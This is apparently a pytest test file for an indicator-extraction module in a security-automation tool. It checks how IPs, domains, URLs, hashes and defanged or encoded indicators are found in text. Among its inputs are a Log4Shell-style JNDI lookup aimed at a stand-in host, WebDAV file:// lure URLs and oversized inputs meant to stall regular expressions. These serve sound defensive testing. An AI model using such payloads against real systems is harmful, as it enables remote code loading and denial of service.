"""Extraction: what is found, what is left out, and that no text can stall it."""

from __future__ import annotations

import ipaddress
import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from include.soar.extract.findings import OwnSurface, extract_finding, observe
from include.soar.extract.refang import refang
from include.soar.extract.text import extract_text
from include.soar.extract.values import (
    _TOP,
    LONGEST_URL,
    parse_address,
    parse_domain,
    parse_hash,
    parse_url,
    read_domain,
)
from include.soar.model import Finding, Observable, ObservableType, Role
from tests.soar.examples import address, at, domain, finding, mention

MD5, SHA1, SHA256 = "0cc175b9c0f1b6a831c399e269772661", "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", "ca978112" * 8
SHA512 = SHA256 * 2


def keys(text: str) -> list[str]:
    return [o.observable.key for o in extract_text(text)]


# --- one of each -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("from 203.0.113.7 port 22", ["ipv4-addr:203.0.113.7"]),
        ("203.0.113.7", ["ipv4-addr:203.0.113.7"]),
        ("203.0.113.7:443, then (203.0.113.8).", ["ipv4-addr:203.0.113.7", "ipv4-addr:203.0.113.8"]),
        ("src=203.0.113.7;dst=198.51.100.1", ["ipv4-addr:203.0.113.7", "ipv4-addr:198.51.100.1"]),
        ("outside/203.0.113.7(1024) -> inside/10.2.2.2(80)", ["ipv4-addr:203.0.113.7", "ipv4-addr:10.2.2.2"]),
        ('{"ip":"203.0.113.7"}', ["ipv4-addr:203.0.113.7"]),
        ("203.0.113.7,203.0.113.7, 203.0.113.7", ["ipv4-addr:203.0.113.7"]),
        ("at 2001:db8::1 now", ["ipv6-addr:2001:db8::1"]),
        ("2001:0DB8:0:0:0:0:0:1", ["ipv6-addr:2001:db8::1"]),
        ("[2001:db8::1]:443", ["ipv6-addr:2001:db8::1"]),
        ("2001:db8::1.", ["ipv6-addr:2001:db8::1"]),
        ("2001:db8::1: connection reset", ["ipv6-addr:2001:db8::1"]),
        ("src:2001:db8::1", ["ipv6-addr:2001:db8::1"]),
        ("2001:db8::/32", ["cidr:2001:db8::/32"]),
        ("fe80::1%eth0 is here", ["ipv6-addr:fe80::1"]),
        ("::ffff:203.0.113.7", ["ipv4-addr:203.0.113.7"]),
        ("::ffff:cb00:7107", ["ipv4-addr:203.0.113.7"]),
        ("2001:db8::192.0.2.33", ["ipv6-addr:2001:db8::c000:221"]),
        ("evil.example was seen", ["domain-name:evil.example"]),
        ("EVIL.Example.", ["domain-name:evil.example"]),
        ("host=cdn-1.evil.example", ["domain-name:cdn-1.evil.example"]),
        ("_dmarc.evil.example", ["domain-name:_dmarc.evil.example"]),
        ("xn--bcher-kva.example", ["domain-name:xn--bcher-kva.example"]),
        ("7.113.0.203.in-addr.arpa", ["domain-name:7.113.0.203.in-addr.arpa"]),
        ("203.0.113.7.evil.example", ["domain-name:203.0.113.7.evil.example"]),
        ("user@evil.example wrote", ["email-addr:user@evil.example"]),
        ("<First.Last+tag@Evil.Example>", ["email-addr:First.Last+tag@evil.example"]),
        (f"md5 {MD5}, sha1 {SHA1.upper()}", [f"file:{MD5}", f"file:{SHA1}"]),
        (f"{SHA256}\n{SHA512}", [f"file:{SHA256}", f"file:{SHA512}"]),
    ],
)
def test_what_is_found(text: str, found: list[str]) -> None:
    assert keys(text) == found


@pytest.mark.parametrize(
    ("text", "url", "host"),
    [
        ("https://evil.example/a", "https://evil.example/a", "domain-name:evil.example"),
        ("HTTP://EVIL.Example/Path?Q=1#F", "http://evil.example/Path?Q=1#F", "domain-name:evil.example"),
        ("http://evil.example", "http://evil.example/", "domain-name:evil.example"),
        ("ftp://evil.example:2121/x.bin", "ftp://evil.example:2121/x.bin", "domain-name:evil.example"),
        ("http://203.0.113.7:8080/p", "http://203.0.113.7:8080/p", "ipv4-addr:203.0.113.7"),
        ("http://[2001:DB8::1]/p", "http://[2001:db8::1]/p", "ipv6-addr:2001:db8::1"),
        ("http://[::ffff:203.0.113.7]/", "http://203.0.113.7/", "ipv4-addr:203.0.113.7"),
        ("https://user:pass@evil.example/", "https://user:pass@evil.example/", "domain-name:evil.example"),
        ("https://evil.example./", "https://evil.example/", "domain-name:evil.example"),
        ("https://bücher.example/ü", "https://xn--bcher-kva.example/ü", "domain-name:xn--bcher-kva.example"),
        ("see https://evil.example/a.", "https://evil.example/a", "domain-name:evil.example"),
        ("(https://evil.example/a)", "https://evil.example/a", "domain-name:evil.example"),
        ("https://evil.example/a_(b), and", "https://evil.example/a_(b)", "domain-name:evil.example"),
        ("[x](https://evil.example/a)!?", "https://evil.example/a", "domain-name:evil.example"),
        ('<a href="https://evil.example/a">', "https://evil.example/a", "domain-name:evil.example"),
        ("https://evil.zip/a", "https://evil.zip/a", "domain-name:evil.zip"),
        ("https://evil.pl/a", "https://evil.pl/a", "domain-name:evil.pl"),
        ("hxxps://evil[.]example/a", "https://evil.example/a", "domain-name:evil.example"),
        (
            "file://Evil.example@SSL/DavWWWRoot/a.lnk",
            "file://evil.example@SSL/DavWWWRoot/a.lnk",
            "domain-name:evil.example",
        ),
        ("file://203.0.113.7@8789/a.bat", "file://203.0.113.7@8789/a.bat", "ipv4-addr:203.0.113.7"),
        ("http://good.example@3405803783/", "http://good.example@203.0.113.7/", "ipv4-addr:203.0.113.7"),
    ],
)
def test_a_url_and_its_host(text: str, url: str, host: str) -> None:
    assert keys(text) == [f"url:{url}", host]


def test_order_is_that_of_the_first_place() -> None:
    text = f"b.example 203.0.113.7 a.example {MD5} b.example https://c.example/ 203.0.113.7"
    assert keys(text) == [
        "domain-name:b.example",
        "ipv4-addr:203.0.113.7",
        "domain-name:a.example",
        f"file:{MD5}",
        "url:https://c.example/",
        "domain-name:c.example",
    ]


# --- what is left out --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "version 10.0.19.45 of it",
        "v1.2.3.4",
        "Version: 4.8.15.16",
        "release=1.2.3.4",
        "Mozilla/5.0 (Windows NT 10.0; Win64) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
        "jquery-3.6.0.1.min",
        "1.2.3.4.5",
        "256.1.1.1",
        "203.0.113.007",  # octal to half of the world
        "1.2.3",
        "10:20:30",
        "00:11:22:33:44:55",
        "std::string x :: y ::",
        "12:00:00.123",
        "setup.py, run.sh and README.md in backup.zip",
        "invoice.pdf report.docx lib.so.6 data.json index.php",
        "os.path.join(a)",
        "e.g. this, i.e. that",
        "a.b",
        "localhost",
        "http://localhost/x",
        "http:///x",
        "http://203.0.113.300/",
        "javascript://evil",
        "user@localhost",
        "co.uk",
        "/var/www/evil.example",
        "0" * 64,
        "f" * 32,
        "1234567890abcdef" * 3,  # 48 digits: no hash is so long
        f"x{MD5}",
        f"{MD5}z",
        "",
        " ",
        "\x00\x01",
    ],
)
def test_what_is_left_out(text: str) -> None:
    assert keys(text) == []


def test_a_name_that_looks_like_a_file_counts_where_somebody_meant_it() -> None:
    assert keys("evil[.]pl") == ["domain-name:evil.pl"]
    assert keys("perl evil.pl now") == keys("evil.pl") == []
    meant = finding(mentions=(mention("evil.pl", Role.DESTINATION), mention("evil.zip", Role.MENTIONED)))
    assert [o.key for o, _ in extract_finding(meant)] == ["domain-name:evil.pl"]


def test_a_url_that_is_too_long_is_never_cut_into_another() -> None:
    """What is cut off would be another page, and blocking it would hit somebody else."""
    assert keys("https://evil.example/" + "a" * 5000) == ["domain-name:evil.example"]
    whole = "https://evil.example/" + "a" * 3000
    assert [o.value for o in extract_text(whole)] == [whole, "evil.example"]


def test_a_name_of_very_many_labels_is_never_cut_into_another() -> None:
    assert keys("com." * 60 + "evil.example") == ["domain-name:" + "com." * 60 + "evil.example"]
    assert keys("com." * 100 + "evil.example") == []


@pytest.mark.parametrize(
    "text", ["http://evil\t.example/x", "http://evil.example/ x", "http://evil.example/\nx", "http://"]
)
def test_parse_url_refuses_what_a_browser_would_read_otherwise(text: str) -> None:
    assert parse_url(text) is None


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("203.0.113.7", "203.0.113.7"),
        (" [2001:DB8::1] ", "2001:db8::1"),
        ("fe80::1%2", "fe80::1"),
        ("::FFFF:203.0.113.7", "203.0.113.7"),
        ("203.0.113.7/32", None),
        ("0x7f.1", None),
        ("3405803783", None),
        ("evil.example", None),
        ("", None),
    ],
)
def test_parse_address(text: str, value: str | None) -> None:
    assert parse_address(text) == (address(value) if value else None)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("Evil.Example.", "evil.example"),
        ("bücher.example", "xn--bcher-kva.example"),
        ("evil.pl", "evil.pl"),
        ("evil.zip", "evil.zip"),
        ("a..example", None),
        ("example", None),
        ("co.uk", None),
        ("evil.nosuchtld", None),
        ("a" * 64 + ".example", None),
        ("a." * 130 + "example", None),
        ("203.0.113.7", None),
        ("", None),
    ],
)
def test_parse_domain(text: str, value: str | None) -> None:
    assert parse_domain(text) == (domain(value) if value else None)


@pytest.mark.parametrize("text", [MD5, SHA1, SHA256, SHA512])
def test_parse_hash(text: str) -> None:
    assert parse_hash(f" {text.upper()} ") == Observable(type=ObservableType.FILE, value=text)
    assert parse_hash(text[:-1]) is None
    assert parse_hash("g" + text[1:]) is None


# --- defanging ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("defanged", "plain"),
    [
        ("hxxp://a.example", "http://a.example"),
        ("hXXps://a.example", "https://a.example"),
        ("h**p://a.example", "http://a.example"),
        ("hxxps[:]//a[.]example", "https://a.example"),
        ("hxxps[://]a[.]example", "https://a.example"),
        ("http[:]//a(.)example", "http://a.example"),
        ("a{.}example", "a.example"),
        ("a[dot]example", "a.example"),
        ("a[ . ]example", "a.example"),
        ("a(DOT)example", "a.example"),
        (r"a\.example", "a.example"),
        ("203[.]0[.]113[.]7", "203.0.113.7"),
        ("203.0.113[.]7", "203.0.113.7"),
        ("2001[:]db8[:][:]1", "2001:db8::1"),
        ("user[@]a[.]example", "user@a.example"),
        ("user(at)a(dot)example", "user@a.example"),
        ("https://a.example[/]x", "https://a.example/x"),
        ("ev\u200bil\u00ad.example", "evil.example"),
    ],
)
def test_refang(defanged: str, plain: str) -> None:
    assert refang(defanged) == plain
    assert extract_text(defanged) == extract_text(plain) != []


@pytest.mark.parametrize(
    "text", ["list[0] and f(x)", "see [1], [a] (b)", "a \\ b", "hxxp is a word", "[]", "()", "at (noon)"]
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert refang(text) == text


# --- properties --------------------------------------------------------------------------------------------------

LABEL = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?", fullmatch=True)
NAMES = st.builds(
    lambda labels, last: ".".join([*labels, last]),
    st.lists(LABEL, min_size=1, max_size=4),
    st.sampled_from(["example", "com", "co.uk", "net"]),
).filter(lambda name: not name.rsplit(".", 2)[-2].isdigit() and parse_domain(name) is not None)
IPV4 = st.ip_addresses(v=4).map(str)
IPV6 = st.ip_addresses(v=6).filter(lambda a: int(a) > 0xFFFF and not a.ipv4_mapped).map(str)
# Not with "_" or "?" at the end: in prose they belong to the sentence.
PATHS = st.from_regex(
    r"(/[A-Za-z0-9_=&?%-]{0,12}[A-Za-z0-9=&%-]){0,4}/|(/[A-Za-z0-9_=&?%-]{0,12}[A-Za-z0-9=&%-]){1,4}", fullmatch=True
)
HASHES = st.sampled_from([32, 40, 64, 128]).flatmap(
    lambda n: st.text("0123456789abcdef", min_size=n, max_size=n).filter(lambda h: parse_hash(h) is not None)
)
OBSERVABLES = st.one_of(
    IPV4.map(address),
    IPV6.map(address),
    NAMES.map(domain),
    HASHES.map(lambda value: Observable(type=ObservableType.FILE, value=value)),
    st.builds(lambda user, name: Observable(type=ObservableType.EMAIL, value=f"{user}@{name}"), LABEL, NAMES),
    st.builds(
        lambda scheme, host, path: Observable(type=ObservableType.URL, value=f"{scheme}://{host}{path}"),
        st.sampled_from(["http", "https", "ftp"]),
        NAMES | IPV4 | IPV6.map(lambda value: f"[{value}]"),
        PATHS,
    ),
)
BEFORE = st.sampled_from(["", "from ", "(", '"', "<", "seen: ", "ip=", "was\n", "→ ", "[", "a, "])
AFTER = st.sampled_from(["", " now", ")", '"', ">", ",", ".", "; next", "\n", "!", "?", "]", ": then"])


def defang(text: str) -> str:
    return text.replace("http", "hxxp").replace("://", "[:]//").replace(".", "[.]").replace("@", "[at]")


@given(BEFORE, OBSERVABLES, AFTER, st.booleans())
@example("", address("2001:db8::"), ": then", False)
@example("", address("1::"), ".", True)
def test_an_observable_in_neutral_text_is_found_again(
    before: str, observable: Observable, after: str, defanged: bool
) -> None:
    text = before + (defang(observable.value) if defanged else observable.value) + after
    assert observable in [item.observable for item in extract_text(text)]


@given(st.lists(OBSERVABLES, max_size=6), st.sampled_from([" ", "\n", ", ", "; ", " and "]))
def test_every_observable_of_a_list_is_found_and_only_hosts_besides(items: list[Observable], between: str) -> None:
    found = extract_text(between.join(defang(o.value) for o in items))
    assert set(items) <= {item.observable for item in found}
    hosts = {o.value for o in found} - {o.value for o in items}
    assert all(any(host in o.value for o in items if o.type is ObservableType.URL) for host in hosts)


@given(
    st.lists(OBSERVABLES.map(lambda o: o.value) | st.text(st.characters(exclude_characters="[](){}\\"), max_size=20))
)
def test_refanging_twice_changes_nothing_more(pieces: list[str]) -> None:
    once = refang(" ".join(defang(piece) for piece in pieces))
    assert refang(once) == once


@given(st.text(max_size=300) | st.text("abc019.:/@-_[]()%# \n\u200b\\xhtps", max_size=300))
def test_any_text_gives_canonical_observables_each_once(text: str) -> None:
    found = extract_text(text)
    assert len(found) == len({item.value for item in found})
    for observable in (item.observable for item in found):
        assert Observable.model_validate(observable.to_json()) == observable
        if observable.is_address:
            assert str(ipaddress.ip_address(observable.value)) == observable.value


# --- what is encoded, and where it was ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "value", "steps"),
    [
        ("q=%68ttp%3A%2F%2Fevil.example%2Fx", "http://evil.example/x", ("percent",)),
        ("q=http%253A%252F%252Fevil.example", "http://evil.example/", ("percent", "percent")),
        ("https://a.example/?u=https%3A%2F%2Fevil.example%2Fx", "https://evil.example/x", ("percent",)),
        ("&#104;ttp&colon;//evil.example/x", "http://evil.example/x", ("html",)),
        (r"http:\/\/evil.example\/x", "http://evil.example/x", ("json",)),
        (r"evil\u002eexample", "evil.example", ("json",)),
        ("data aHR0cDovL2V2aWwuZXhhbXBsZS94 end", "http://evil.example/x", ("base64",)),
        ("X: aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQA=", "http://evil.example/", ("base64",)),
        ("687474703a2f2f6576696c2e6578616d706c652f78", "http://evil.example/x", ("hex",)),
        ("${jndi:${lower:l}dap://evil.example/a}", "ldap://evil.example/a", ("lookup",)),
        ("WC1Gb3J3YXJkZWQtRm9yOiAyMDMuMC4xMTMuNw==", "203.0.113.7", ("base64",)),
        ("a %61HR0cDovL2V2aWwuZXhhbXBsZS94", "http://evil.example/x", ("percent", "base64")),
    ],
)
def test_what_is_encoded_is_found_and_says_how(text: str, value: str, steps: tuple[str, ...]) -> None:
    assert {item.value: item.steps for item in extract_text(text)}[value] == steps


def test_what_is_encoded_too_often_is_left_alone() -> None:
    deep = "http://evil.example/"
    for _ in range(6):
        deep = deep.replace("%", "%25").replace(":", "%3A").replace("/", "%2F")
    assert keys(f"q={deep}") == []


def test_percent_encoding_within_a_url_is_kept_and_makes_no_second_one() -> None:
    assert keys("https://evil.example/a%20b?c=d%2Fe") == [
        "url:https://evil.example/a%20b?c=d%2Fe",
        "domain-name:evil.example",
    ]


def test_a_sighting_says_the_field_and_the_steps() -> None:
    seen = finding(mentions=(mention("u=http%3A%2F%2Fevil.example%2F", Role.PAYLOAD, "evidence.query"),))
    assert [(o.value, s.field, s.role, s.steps) for o, s in extract_finding(seen)] == [
        ("http://evil.example/", "evidence.query", Role.PAYLOAD, ("percent",)),
        ("evil.example", "evidence.query", Role.PAYLOAD, ()),  # which stands there in clear
    ]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("203.0.113.0/24", ["cidr:203.0.113.0/24"]),
        ("203.0.113.7/24", ["cidr:203.0.113.0/24", "ipv4-addr:203.0.113.7"]),
        ("203.0.113.7/32", ["ipv4-addr:203.0.113.7"]),
        ("203.0.113.7/80", ["ipv4-addr:203.0.113.7"]),
        ("::ffff:203.0.113.0/120", ["cidr:203.0.113.0/24"]),
        ("cve-2021-44228, CVE-2021-44228", ["vulnerability:CVE-2021-44228"]),
        ("AS64496 and ASN 64497, as 64498", ["autonomous-system:AS64496", "autonomous-system:AS64497"]),
        ("203.0.113.1-203.0.113.9", ["ipv4-addr:203.0.113.1", "ipv4-addr:203.0.113.9"]),
    ],
)
def test_networks_vulnerabilities_and_systems(text: str, found: list[str]) -> None:
    assert keys(text) == found


def test_a_host_as_only_browsers_read_it() -> None:
    for written in ("0xcb007107", "3405803783", "0313.0.0161.7", "0xcb.0.0x71.7"):
        assert keys(f"http://{written}/x") == ["url:http://203.0.113.7/x", "ipv4-addr:203.0.113.7"]


def test_a_version_once_is_an_address_elsewhere() -> None:
    assert keys("version 203.0.113.7 met 203.0.113.7.") == ["ipv4-addr:203.0.113.7"]


def test_what_a_destination_carries_was_not_met_itself() -> None:
    inner = "aHR0cDovL3RoaXJkLmV4YW1wbGUv"
    text = f"http://evil.example/?next=http%3A%2F%2Fgood.example%2F&again=http://other.example/&b={inner}"
    seen = finding(mentions=(mention(text, Role.DESTINATION), mention("http://third.example/", Role.DESTINATION, "b")))
    roles: dict[str, set[str]] = {}
    for observable, sighting in extract_finding(seen):
        roles.setdefault(observable.value, set()).add(sighting.role.value)
    assert roles["evil.example"] == roles[text] == {"destination"}
    for name in ("good.example", "other.example", "http://good.example/"):
        assert roles[name] == {"mentioned"}
    assert roles["third.example"] == {"mentioned", "destination"}
    whole = finding(mentions=(mention("http%3A%2F%2Fevil.example%2Fx", Role.DESTINATION),))
    assert {s.role for _, s in extract_finding(whole)} == {Role.DESTINATION}


def test_our_own_api_is_no_indicator_but_as_the_victim() -> None:
    own = OwnSurface(["api.ours.example"], ["/v1/geo.info"])
    seen = finding(
        mentions=(
            mention("https://eu.api.ours.example/x via /v1/geo.info from evil.example", Role.MENTIONED, "text"),
            mention("eu.api.ours.example", Role.VICTIM, "host"),
        )
    )
    assert [(o.value, s.role) for o, s in extract_finding(seen, own)] == [
        ("evil.example", Role.MENTIONED),
        ("eu.api.ours.example", Role.VICTIM),
    ]


# --- findings ----------------------------------------------------------------------------------------------------


def test_a_finding_says_where_and_in_what_role_each_was_seen() -> None:
    one = finding(
        mentions=(
            mention("203.0.113.7", Role.ATTACKER, "attacker.IP"),
            mention("203.0.113.7, 198.51.100.1", Role.CLAIM, "headers.X-Forwarded-For"),
            mention("nothing here", Role.MENTIONED, "description"),
        )
    )
    seen = [(o.value, s.field, s.role) for o, s in extract_finding(one)]
    assert seen == [
        ("203.0.113.7", "attacker.IP", Role.ATTACKER),
        ("203.0.113.7", "headers.X-Forwarded-For", Role.CLAIM),
        ("198.51.100.1", "headers.X-Forwarded-For", Role.CLAIM),
    ]


def test_the_same_findings_give_the_same_bytes_in_whatever_order() -> None:
    early = finding("f1", seen=at("2026-11-24T10:00"), mentions=(mention("203.0.113.7 b.example a.example"),))
    late = finding("f2", seen=at("2026-11-24T11:00"), mentions=(mention("b.example"), mention("203.0.113.7")))

    def as_text(findings: list[Finding]) -> str:
        return json.dumps([o.to_json() for o in observe(findings)])

    assert as_text([early, late]) == as_text([late, early])
    items = observe([late, early, late])  # the same finding twice is not two sightings
    assert [o.observable.key for o in items] == sorted(o.observable.key for o in items)
    assert [s.finding_uid for s in items[-1].sightings] == ["f1", "f2"]


# --- hostile text ------------------------------------------------------------------------------------------------

HOSTILE = {
    "addresses": "1.2.3.4 " * 600_000,
    "letters": "a" * 1_000_000,
    "digits": "1" * 1_000_000,
    "dots": "." * 1_000_000,
    "labels": "a." * 500_000,
    "labels with dashes": "a-." * 300_000,
    "hyphens": "a" + "-" * 1_000_000,
    "colons": ":" * 1_000_000,
    "hex and colons": "a:" * 500_000,
    "letters and colons": "gg:" * 300_000,
    "zones": "::1%" * 250_000,
    "ats": "@" * 1_000_000,
    "mail": "a@a." * 250_000,
    "mail domains": ("a@" + "1." * 125 + " ") * 3_000,
    "authorities": "http://a:a:a:" * 80_000,
    "urls in urls": "http://" * 150_000,
    "closing brackets": "http://evil.example/" + ")" * 1_000_000,
    "brackets": "[" * 1_000_000,
    "dot brackets": "[.]" * 300_000,
    "nested brackets": "[" * 400_000 + "." + "]" * 400_000,
    "blanks in brackets": ("[" + " " * 50) * 20_000,
    "zero width": "\u200b" * 1_000_000,
    "hexadecimal": "0123456789abcdef" * 60_000,
    "hashes": ("0123456789abcdef" * 4 + " ") * 15_000,
    "base64": "QUJD" * 250_000 + "==",
    "backslashes": "\\" * 1_000_000,
    "systems": "AS1." * 250_000,
    "combining marks": "a" + "\u0301\u0323" * 300_000,
    "half URLs in hexadecimal": "687474702f2f" * 80_000,
    "different addresses": " ".join(f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}" for n in range(60_000)),
    "different names": " ".join(f"h{n}.evil.example" for n in range(60_000)),
}


@pytest.mark.timeout(300)  # a pattern that stalls does answer the alarm: sre looks for signals
@pytest.mark.parametrize("name", HOSTILE)
def test_no_text_stalls_it(name: str) -> None:
    """Known extractors need minutes for a few kilobytes of some of these; the time here is for a busy machine."""
    assert len(extract_text(HOSTILE[name])) <= 60_000 + 1


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("https://shop.example/?next=myapp://open.example/1", ["shop.example", "open.example"]),
        ("market://details.example/?u=myapp://b.example", ["details.example", "b.example"]),
        ("app://one.sh/?u=app://two.sh", []),  # as doubtful inside as outside
        ("app://one.sh/?u=app://two.sh/?u=redis://three.sh", ["three.sh"]),
    ],
)
def test_the_host_of_an_unknown_scheme_within_a_url(text: str, found: list[str]) -> None:
    assert [item.value for item in extract_text(f"see {text}") if item.type is ObservableType.DOMAIN] == found


@pytest.mark.parametrize("before", ["http://a.example?", "http://ä.example/", "http://a.example/"])
def test_a_url_that_its_canonical_form_makes_too_long_is_none(before: str) -> None:
    """One character more would be too long as written."""
    found = extract_text(f"{before}{'b' * (4096 - len(before))} 203.0.113.7")
    kinds = [item.observable.type for item in found if len(item.value) <= LONGEST_URL]
    assert len(kinds) == len(found)
    assert ObservableType.DOMAIN in kinds
    assert ObservableType.IPV4 in kinds
    assert (ObservableType.URL in kinds) == (before == "http://a.example/")


@pytest.mark.parametrize("text", ["_a.example._", "_a.example.-_", "__a.example..__"])
def test_emphasis_around_the_end_of_a_sentence(text: str) -> None:
    assert keys(text) == ["domain-name:a.example"]


@pytest.mark.parametrize(
    "text", ["0.9", "Mozilla/5.0", "end.", "1.5.2/x", "2026-03-04T11:22:43.544Z", "1234567890123456"]
)
def test_what_every_log_is_full_of_names_nothing(text: str) -> None:
    assert keys(f"{text} {text}, ({text})") == []


def test_no_top_level_domain_begins_with_a_digit() -> None:
    """Pieces are left out at one look for that."""
    read_domain("a.example")
    assert len(_TOP) > 1_000
    assert [last for last in _TOP if not last[0].isalpha()] == []


def test_marks_are_composed_however_many_stand_behind_a_letter() -> None:
    assert keys("bu\u0308cher.example") == ["domain-name:xn--bcher-kva.example"]
    assert keys("e\u0301" + "\u0323" * 500 + " bu\u0308cher.example") == ["domain-name:xn--bcher-kva.example"]


def test_a_url_in_hexadecimal_with_what_is_before_it() -> None:
    url = b"http://evil.example/a".hex()
    for before in ("", "0", "00" * 90, "0" * 181):
        assert keys(f"x={before}{url}.") == ["url:http://evil.example/a", "domain-name:evil.example"]


def test_a_label_of_a_tunnels_domain_is_no_hash() -> None:
    label = "f4921539d130fbbe8e2c1685401e05484fd98632"
    assert keys(f"{label}.1.tunnel.exfil.example") == [f"domain-name:{label}.1.tunnel.exfil.example"]
    assert keys(f"a.{label}.{label}.example") == [f"domain-name:a.{label}.{label}.example"]
    assert keys(f"dropped {label}.") == [f"file:{label}"]
